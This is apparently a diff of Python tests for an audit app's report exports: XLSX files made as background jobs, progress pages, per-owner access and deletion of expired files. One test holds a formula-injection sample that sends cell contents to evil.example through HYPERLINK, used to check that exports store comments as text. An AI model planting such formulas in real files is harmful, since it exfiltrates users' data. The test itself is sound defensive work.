@@ -23,6 +23,21 @@ def _manager(app, email="manager.hu@example.com"):
     return client
 
 
+def _xlsx(client, query=""):
+    """An XLSX export as a manager makes it: the dashboard's button starts a job (run at once in the
+    tests), its page links the file; the workbook read back with openpyxl."""
+    import openpyxl
+
+    token = csrf_from(client.get("/dashboard/"))
+    started = client.post(f"/reports/export.xlsx{query}", data={"csrf_token": token})
+    assert started.status_code == 302 and "/reports/jobs/" in started.headers["Location"]
+    page = client.get(started.headers["Location"]).get_data(as_text=True)
+    assert "/download" in page, page
+    download = client.get(started.headers["Location"] + "/download")
+    assert download.status_code == 200 and download.headers["Content-Disposition"].endswith(".xlsx")
+    return openpyxl.load_workbook(io.BytesIO(download.data))
+
+
 SHOPPER_NAMES = [name for _email, name, role, _l, _r in ACCOUNTS if role.value == "shopper"]
 
 
@@ -126,7 +141,6 @@ def test_branch_report_draws_the_trend_and_section_charts(app, demo):
 
 def test_exports_have_a_row_per_visit_and_per_answer_and_never_name_the_shopper(app, demo):
     import csv
-    import openpyxl
 
     client = _manager(app)
     visits = list(csv.reader(io.StringIO(client.get("/reports/export.csv?kind=visits&lang=ro").get_data(as_text=True))))
@@ -142,7 +156,7 @@ def test_exports_have_a_row_per_visit_and_per_answer_and_never_name_the_shopper(
     flat = client.get("/reports/export.csv?kind=answers&lang=ro").get_data(as_text=True)
     assert all(name not in flat for name in SHOPPER_NAMES)
     assert "Ați fost salutat" in flat or "salut" in flat.lower()  # item texts in Romanian
-    book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/export.xlsx?lang=en").data))
+    book = _xlsx(client, "?lang=en")
     assert book.sheetnames == ["visits", "answers"]
     assert book["visits"].max_row - 1 == expected
 
@@ -151,7 +165,6 @@ def test_a_comment_that_starts_like_a_formula_stays_text_in_both_exports(app, de
     """A shopper's comment is typed text: a spreadsheet opening the export must not run it (OWASP CSV
     injection). The CSV prefixes an apostrophe; the XLSX stores a text cell, shown as typed."""
     import csv
-    import openpyxl
 
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     with app.app_context(), database.connection_context():
@@ -165,7 +178,7 @@ def test_a_comment_that_starts_like_a_formula_stays_text_in_both_exports(app, de
     mine = [row for row in rows if row[0] == str(visit.uuid) and row[4] == answer.item_id]
     assert [row[-1] for row in mine] == ["'" + formula]
     assert not any(cell.startswith("=") for row in rows for cell in row)
-    book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/export.xlsx").data))
+    book = _xlsx(client)
     cells = [row[-1] for row in book["answers"].iter_rows(min_row=2)
              if row[0].value == str(visit.uuid) and row[4].value == answer.item_id]
     assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s")]  # text, not a formula ("f")
@@ -180,7 +193,6 @@ def test_answers_past_a_sheets_row_limit_go_on_in_another_sheet_and_none_are_cut
     """Excel's sheets hold 1,048,576 rows, which two years of a large chain's answers can pass; here the
     limit is lowered to 400 so that the demo's answers need several sheets."""
     import csv
-    import openpyxl
 
     from audit import exports
 
@@ -188,7 +200,7 @@ def test_answers_past_a_sheets_row_limit_go_on_in_another_sheet_and_none_are_cut
     client = _manager(app)
     answers = list(csv.reader(io.StringIO(client.get("/reports/export.csv?kind=answers").get_data(as_text=True))))
     assert len(answers) - 1 > 2 * 399
-    book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/export.xlsx").data))
+    book = _xlsx(client)
     parts = -(-(len(answers) - 1) // 399)
     assert book.sheetnames == ["visits", "answers"] + [f"answers {n}" for n in range(2, parts + 1)]
     rows = []
@@ -198,7 +210,7 @@ def test_answers_past_a_sheets_row_limit_go_on_in_another_sheet_and_none_are_cut
         rows += sheet[1:]
     assert [row[:2] + row[3:5] for row in rows] == [row[:2] + row[3:5] for row in answers[1:]]  # all, in order
     # A period without visits gives the headers alone.
-    empty = openpyxl.load_workbook(io.BytesIO(client.get("/reports/export.xlsx?days=7").data))
+    empty = _xlsx(client, "?days=7")
     assert [list(empty[name].iter_rows(values_only=True)) for name in empty.sheetnames] == [
         [tuple(exports.VISIT_COLUMNS)], [tuple(exports.ANSWER_COLUMNS)]]
 
@@ -209,6 +221,98 @@ def test_an_auditors_export_names_the_shopper(app, demo):
     text = client.get("/reports/export.csv?kind=visits").get_data(as_text=True)
     assert text.splitlines()[0].endswith(",shopper")
     assert any(name in text for name in SHOPPER_NAMES)
+    visits = list(_xlsx(client)["visits"].iter_rows(values_only=True))
+    assert visits[0][-1] == "shopper" and {row[-1] for row in visits[1:]} <= set(SHOPPER_NAMES)
+    manager_visits = list(_xlsx(_manager(app))["visits"].iter_rows(values_only=True))
+    assert "shopper" not in manager_visits[0]
+    assert not {cell for row in manager_visits for cell in row} & set(SHOPPER_NAMES)
+
+
+def test_an_xlsx_export_is_made_in_the_background_and_its_page_shows_the_progress(app, demo, monkeypatch):
+    """Two years of a chain's answers take half a minute to write: the button starts a job, whose page
+    counts the rows written while the export runs (its rows are read in one transaction on
+    PostgreSQL, so the count must come from outside it) and then links the file."""
+    import threading
+
+    from audit import exports, tasks
+    from audit.models import Job
+
+    seen = []  # (rows written, what another connection reads meanwhile)
+    record = tasks._record_progress
+
+    def watched(job_id, done):
+        record(job_id, done)
+
+        def read():
+            with database.connection_context():
+                seen.append((done, Job.get_by_id(job_id).done, Job.get_by_id(job_id).status))
+
+        reader = threading.Thread(target=read)
+        reader.start()
+        reader.join()
+
+    monkeypatch.setattr(tasks, "_record_progress", watched)
+    monkeypatch.setattr(tasks, "PROGRESS_ROWS", 100)
+    client = _manager(app)
+    client.post("/language", data={"language": "hu", "csrf_token": csrf_from(client.get("/dashboard/")),
+                                   "next": "/dashboard/"})
+    dashboard = client.get("/dashboard/").get_data(as_text=True)
+    assert 'action="/reports/export.xlsx?days=' in dashboard and "Exportálás (XLSX)" in dashboard
+    book = _xlsx(client, "?days=182")
+    rows = sum(book[name].max_row - 1 for name in book.sheetnames)
+    with app.app_context(), database.connection_context():
+        job = Job.get()
+        region = Branch.get(Branch.code == "BUD-01").region_id
+        start = job.created_at - timedelta(days=182)
+        expected = exports.count_rows([b.id for b in Branch.select().where(Branch.region == region)], start,
+                                      job.created_at)
+    assert (job.kind, job.status, job.total) == ("xlsx_export", "done", rows)
+    assert rows == expected > 500
+    assert seen == [(n, n, "running") for n in range(100, rows + 1, 100)]
+    page = client.get(f"/reports/jobs/{job.uuid}").get_data(as_text=True)
+    assert f"Az export elkészült: {rows} sor." in page and "Az XLSX letöltése" in page
+    # While it runs, its page counts the rows and refreshes itself.
+    with app.app_context(), database.connection_context():
+        Job.update(status="running", done=500).where(Job.id == job.id).execute()
+    page = client.get(f"/reports/jobs/{job.uuid}").get_data(as_text=True)
+    assert f"Az export készül: 500 / {rows} sor." in page and 'http-equiv="refresh"' in page
+    assert client.get(f"/reports/jobs/{job.uuid}/download").status_code == 404  # not before it is done
+    other = _manager(app, "manager.ee@example.com")
+    assert other.get(f"/reports/jobs/{job.uuid}").status_code == 404  # only its owner sees the job
+
+
+def test_a_jobs_file_is_removed_after_the_days_it_is_kept_and_its_page_says_so(app, demo):
+    import os
+
+    from audit import tasks
+    from audit.models import Job, utcnow
+
+    client = _manager(app)
+    token = csrf_from(client.get("/dashboard/"))
+    made = [client.post("/reports/export.xlsx?lang=en", data={"csrf_token": token}).headers["Location"]
+            for _ in range(2)]
+    keep = app.config["JOB_FILES_KEEP_DAYS"]
+    folder = os.path.join(app.config["MEDIA_DIR"], "exports")
+    with app.app_context(), database.connection_context():
+        old, recent = Job.select().order_by(Job.id)
+        Job.update(created_at=utcnow() - timedelta(days=keep, hours=1)).where(Job.id == old.id).execute()
+        Job.update(created_at=utcnow() - timedelta(days=keep - 1)).where(Job.id == recent.id).execute()
+        assert sorted(os.listdir(folder)) == sorted([old.file_name, recent.file_name])
+        assert tasks.remove_expired_job_files() == 1
+        assert tasks.remove_expired_job_files() == 0
+        assert os.listdir(folder) == [recent.file_name]
+        assert [(j.status, j.file_name) for j in Job.select().order_by(Job.id)] == [
+            ("expired", None), ("done", recent.file_name)]
+    page = client.get(made[0]).get_data(as_text=True)  # the manager reads Hungarian
+    assert f"Ezt a fájlt {keep} nappal az elkészülte után töröltük. Készítse el újra az irányítópultról." in page
+    assert client.get(made[0] + "/download").status_code == 404
+    assert client.get(made[1] + "/download").status_code == 200
+    # The worker runs the removal once an hour (huey's periodic tasks).
+    from datetime import datetime
+
+    due = {task.name for task in app.extensions["huey"].read_periodic(datetime(2026, 11, 26, 9, 17))}
+    assert "remove_expired_job_files" in due
+    assert not app.extensions["huey"].read_periodic(datetime(2026, 11, 26, 9, 18))
 
 
 def test_a_regions_zip_of_reports_is_made_in_the_background_with_progress(app, demo):
